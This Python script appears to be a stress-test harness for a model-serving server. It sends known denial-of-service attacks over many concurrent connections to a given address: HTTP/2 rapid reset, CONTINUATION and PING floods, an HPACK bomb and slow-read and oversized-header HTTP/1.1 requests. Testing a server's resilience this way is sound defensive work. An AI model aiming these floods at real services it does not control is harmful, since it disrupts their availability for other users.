"""Known attacks on HTTP/2 and HTTP, by clients that never read.

python attacks.py grpc|http NAME ADDRESS SECONDS [half-closed]
"""

from __future__ import annotations

import contextlib
import socket
import sys
import threading
import time

import numpy as np
from http2_peer import INFER, data, frame, headers, infer_message
from http2_peer import request as block

from proa_serving.http2 import frames

CLIENTS = 8
X = np.ones((2, 4), np.float32)
BEGIN = frames.PREFACE + frames.settings({})
# An entry of nearly the whole table, and indices that name it again and again.
BOMB = block() + b"\x40\x01x" + b"\x7f\xa1\x1e" + b"v" * 4000 + b"\xbe" * 12000


def streams(make):
    """What ``make`` gives for 200 streams, the next ones each time."""

    def sent(step):
        first = 1 + 400 * step
        return b"".join(make(number) for number in range(first, first + 400, 2))

    return sent


def same(part, count=200):
    return lambda step: part * count


def slow_read(number):
    return headers(number, block(INFER)) + data(number, infer_message(X))


GRPC = {
    "rapid reset": streams(
        lambda n: headers(n) + frame(frames.RST_STREAM, 0, n, b"\0\0\0\x08")
    ),
    "rapid reset of inference": streams(
        lambda n: (
            headers(n, block(INFER))
            + data(n, infer_message(X), 0)
            + frame(frames.RST_STREAM, 0, n, b"\0\0\0\x08")
        )
    ),
    "CONTINUATION flood": lambda step: (
        headers(1, b"", 0) if step == 0 else frame(frames.CONTINUATION, 0, 1) * 500
    ),
    "CONTINUATION of headers": lambda step: (
        headers(1, b"", 0)
        if step == 0
        else frame(frames.CONTINUATION, 0, 1, b"\0\1a\1b" * 800)
    ),
    "PING flood": same(frame(frames.PING, 0, 0, bytes(8))),
    "SETTINGS flood": same(frames.settings({frames.INITIAL_WINDOW_SIZE: 70000})),
    "empty DATA flood": lambda step: (
        (headers(1) if step == 0 else b"") + data(1, b"", 0) * 200
    ),
    "WINDOW_UPDATE flood": same(frames.window_update(0, 1)),
    "PRIORITY flood": same(frame(frames.PRIORITY, 0, 3, bytes(5))),
    "unknown frames": same(frame(0xBB, 0, 0, bytes(30))),
    "half-open streams": streams(lambda n: headers(n, block(INFER))),
    "HPACK bomb": streams(lambda n: headers(n, BOMB) if n % 50 == 1 else b""),
    "answers are not read": streams(slow_read),
    "errors are not read": streams(lambda n: headers(n, block("/nothing"))),
}
HTTP = {
    "answers are not read": same(b"GET /metrics HTTP/1.1\r\nHost: x\r\n\r\n"),
    "errors are not read": same(b"GET /none HTTP/1.1\r\nHost: x\r\n\r\n"),
    "many headers": lambda step: (
        b"GET / HTTP/1.1\r\nHost: x\r\n" * (step == 0) + b"a: b\r\n" * 1000
    ),
    "a header without end": lambda step: (
        b"GET / HTTP/1.1\r\nHost: x\r\na: " * (step == 0) + b"b" * 20000
    ),
    "chunks of one byte": lambda step: (
        b"POST /v2/models/m/infer HTTP/1.1\r\n"
        b"Host: x\r\nTransfer-Encoding: chunked\r\n\r\n"
        * (step == 0)
        + b"1\r\n{\r\n" * 2000
    ),
    "chunk extensions": lambda step: (
        b"POST /v2/models/m/infer HTTP/1.1\r\n"
        b"Host: x\r\nTransfer-Encoding: chunked\r\n\r\n1;" * (step == 0) + b"e" * 20000
    ),
}


def attack(address, begin, make, end, half_closed):
    """Send until ``end``, never reading; again where the server closed."""
    host, port = address.split(":")
    while time.monotonic() < end:
        with (
            contextlib.suppress(OSError),
            socket.create_connection((host, int(port)), timeout=0.3) as client,
        ):
            client.sendall(begin)
            step = 0
            while time.monotonic() < end:
                client.sendall(make(step))
                step += 1
                if half_closed:
                    client.shutdown(socket.SHUT_WR)
                    time.sleep(0.1)
                    break


def main():
    protocol, name, address, seconds, *half_closed = sys.argv[1:]
    make = {"grpc": GRPC, "http": HTTP}[protocol][name]
    begin = BEGIN if protocol == "grpc" else b""
    end = time.monotonic() + float(seconds)
    given = (address, begin, make, end, bool(half_closed))
    threads = [threading.Thread(target=attack, args=given) for _ in range(CLIENTS)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()


if __name__ == "__main__":
    main()
